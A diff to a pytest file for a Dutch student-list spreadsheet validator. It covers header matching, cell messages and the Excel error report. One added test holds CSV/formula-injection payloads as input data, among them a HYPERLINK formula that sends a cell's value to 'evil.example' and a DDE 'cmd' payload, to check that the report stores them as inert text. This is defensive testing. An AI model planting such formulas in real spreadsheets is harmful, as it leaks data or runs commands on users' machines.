@@ -32,21 +32,46 @@ def codes(errors):
 
 # --- header ---------------------------------------------------------------------
 
-def test_header_exact_titles_suggestions_and_duplicates():
+def test_header_titles_suggestions_and_duplicates():
     positions, errors = rules.check_header(TITLES, VO_PT)
     assert errors == [] and positions["student_number"] == 0 and positions["bsn"] == 1
     header = list(TITLES)
-    header[header.index("Achternaam")] = "achternaam "       # case counts: exact titles
+    header[header.index("Achternaam")] = "achternaam "       # case and spaces do not count
+    header[header.index("Voornaam")] = "VOOR\u00a0NAAM"       # not a title: suggested
     header[header.index("E-mailadres")] = "Emailadres"
     header.append("Leerlingnummer")                          # twice
     header.append("Schoenmaat")
-    _positions, errors = rules.check_header(header, VO_PT)
+    positions, errors = rules.check_header(header, VO_PT)
+    assert positions["last_name"] == TITLES.index("Achternaam")
     unknown = {e["column"]: e.get("suggestion") for e in errors if e["code"] == "column_unknown"}
-    assert unknown == {"achternaam": "Achternaam", "Emailadres": "E-mailadres",
-                       "Schoenmaat": None}
-    assert {e["column"] for e in errors if e["code"] == "column_missing"} == {
-        "Achternaam", "E-mailadres"}
+    assert unknown == {"VOOR NAAM": "Voornaam", "Emailadres": "E-mailadres", "Schoenmaat": None}
+    # a misspelt title is one error (the suggestion), not also "missing"
+    assert [e["column"] for e in errors if e["code"] == "column_missing"] == []
     assert [e["column"] for e in errors if e["code"] == "column_duplicate"] == ["Leerlingnummer"]
+    header = [t.lower() for t in TITLES]
+    assert rules.check_header(header, VO_PT) == (positions_of(VO_PT), [])
+
+
+def positions_of(cols):
+    return {c.field: i for i, c in enumerate(cols)}
+
+
+@pytest.mark.parametrize("sent,chosen,field", [
+    (("vo", "non_transfer"), ("vo", "potential_transfer"), "student_type"),
+    (("vo", "potential_transfer"), ("vo", "non_transfer"), "student_type"),
+    (("mbo", "potential_transfer"), ("vo", "potential_transfer"), "school_type"),
+])
+def test_the_other_template_is_recognised(sent, chosen, field):
+    header = [c.title for c in colspec.columns(*sent)]
+    _positions, errors = rules.check_header(header, colspec.columns(*chosen), chosen=chosen)
+    assert [(e["code"], e["field"]) for e in errors] == [("list_type_mismatch", field)]
+    text = errors[0]["message"]
+    assert colspec.STUDENT_TYPE_NL[sent[1]].lower() in text
+    assert f"u koos {colspec.STUDENT_TYPE_NL[chosen[1]].lower()}" in text
+    # a list of the chosen template with one odd column is not "another list"
+    own = [c.title for c in colspec.columns(*chosen)] + ["Huisnummer"]
+    _positions, errors = rules.check_header(own, colspec.columns(*chosen), chosen=chosen)
+    assert "list_type_mismatch" not in [e["code"] for e in errors]
 
 
 def test_header_in_another_order_is_fine():
@@ -110,6 +135,40 @@ def test_cell_rules(column, value, code):
     assert errors[0]["row"] == 7 and errors[0]["message"]
 
 
+@pytest.mark.parametrize("column,value,code,words", [
+    ("Postcode", "2235 SD", "postcode_invalid", "SA, SD en SS worden in Nederlandse postcodes "
+                                                "nooit gebruikt"),
+    ("Postcode", "0123 AB", "postcode_invalid", "heeft niet de vorm 1234 AB"),
+    ("Geboortedatum", "31-02-2011", "date_invalid", "31-02-2011 bestaat niet: februari 2011 "
+                                                    "heeft 28 dagen"),
+    ("Geboortedatum", "12-13-2011", "date_invalid", "er is geen maand 13"),
+    ("BSN", 3965223, "bsn_leading_zeros_lost", "Excel heeft de voorloopnullen weggelaten"),
+    ("BSN", "3965223", "bsn_leading_zeros_lost", "als tekst"),
+    ("BSN", "12345678901", "bsn_invalid", "11 cijfers"),
+    ("Geslacht", "Q", "gender_invalid", "M (man), V (vrouw) of X"),
+    ("Leerweg", "mavo", "track_invalid", "vmbo-bb, vmbo-kb, vmbo-gl, vmbo-tl, havo, vwo, pro"),
+    ("Leerjaar", 7, "year_of_education_invalid", "van 1 tot en met 6"),
+    ("Voornaam", "An\tna", "value_invalid", "tab, regelovergang"),
+])
+def test_messages_say_what_is_wrong(column, value, code, words):
+    check, _ = checker()
+    _clean, errors = check.check(7, cells({**xf.student_row(1), column: value}))
+    assert codes(errors) == [(column, code)]
+    assert words in errors[0]["message"], errors[0]["message"]
+    assert "3965223" not in errors[0]["message"]      # never a BSN in a message
+
+
+@pytest.mark.parametrize("column,value,expected", [
+    ("Geslacht", "male", "M"), ("Geslacht", "Female", "V"), ("Geslacht", "vrouw", "V"),
+    ("Voornaam", "Anna\u00a0Maria ", "Anna Maria"),     # a non-breaking space is a space
+])
+def test_values_other_paths_accept_are_accepted(column, value, expected):
+    check, _ = checker()
+    clean, errors = check.check(7, cells({**xf.student_row(1), column: value}))
+    field = next(c.field for c in VO_PT if c.title == column)
+    assert errors == [] and clean[field] == expected
+
+
 @pytest.mark.parametrize("value,expected", [
     (dt.datetime(2010, 11, 3), "2010-11-03"), (dt.date(2010, 11, 3), "2010-11-03"),
     ("03-11-2010", "2010-11-03"), ("3-11-2010", "2010-11-03"), ("03/11/2010", "2010-11-03"),
@@ -125,7 +184,7 @@ def test_required_fields_per_student_type():
     check, _ = checker()
     row = {**xf.student_row(1), "BSN": None, "Geboortedatum": None, "Geslacht": None}
     _clean, errors = check.check(2, cells(row))
-    assert sorted(codes(errors)) == [("BSN", "bsn_or_onderwijsnummer_required"),
+    assert sorted(codes(errors)) == [("BSN", "bsn_required"),
                                      ("Geboortedatum", "required"), ("Geslacht", "required")]
     onr = {**row, "Leerlingnummer": "424242", "Onderwijsnummer": xf.onderwijsnummer(1),
            "Geboortedatum": "01-01-2010", "Geslacht": "v"}
@@ -282,7 +341,36 @@ def test_report_marks_cells_and_lists_every_error(tmp_path):
     assert ws["O3"].fill.fgColor.rgb.endswith("FFC7CE")
     assert ws["A2"].value == "100001" and ws["O2"].comment is None
     assert [[c.value for c in r] for r in wb["Fouten"].iter_rows(min_row=2)] == [
-        [3, "Klas", "O3", "required", "Klas is verplicht."], [None, None, None, "x", "Los."]]
+        [3, "Klas", "Klas is verplicht.", "required"], [None, None, "Los.", "x"]]
+    # the template's formatting is kept: text identifiers, drop-downs, instructions
+    assert wb.sheetnames == ["Leerlingen", "Fouten", "Instructies"]
+    assert ws.column_dimensions["A"].number_format == "@"
+    assert ws.column_dimensions["B"].number_format == "@"
+    assert ws["A1"].comment is not None and ws.freeze_panes == "A2"
+    assert any('"M,V,X"' == dv.formula1 for dv in ws.data_validations.dataValidation)
+    assert ws.column_dimensions["E"].width >= 16
+
+
+def test_report_never_writes_a_formula_and_keeps_legitimate_values(tmp_path):
+    titles = TITLES
+    hostile = {"Voornaam": '=HYPERLINK("http://evil.example/?x="&A2,"klik")',
+               "Achternaam": "=cmd|' /C calc'!A0", "Tussenvoegsel": "@SUM(1+1)",
+               "Straat": "+31 6 1234", "Woonplaats": "-2+3", "Huisnummer": "-"}
+    path = tmp_path / "lijst.xlsx"
+    path.write_bytes(xf.make_list([{**xf.student_row(1), **hostile}]))
+    data = report.build_report(validate.read_cells(path, "Leerlingen"), [])
+    ws = load_workbook(io.BytesIO(data))["Leerlingen"]
+    by_title = {titles[i]: cell for i, cell in enumerate(ws[2]) if i < len(titles)}
+    for title, text in hostile.items():
+        cell = by_title[title]
+        assert cell.value == text and cell.data_type == "s", (title, cell.data_type)
+        assert cell.quotePrefix == (text != "-"), title
+    assert by_title["Geboortedatum"].is_date
+    # the report read back (as a school sends it again) gives the same values
+    (tmp_path / "rapport.xlsx").write_bytes(data)
+    back = dict(zip(titles, next(r for n, r in validate.read_cells(tmp_path / "rapport.xlsx",
+                                                                   "Leerlingen") if n == 2)))
+    assert {t: back[t] for t in hostile} == hostile
 
 
 def test_row_limit_also_holds_while_parsing(tmp_path):
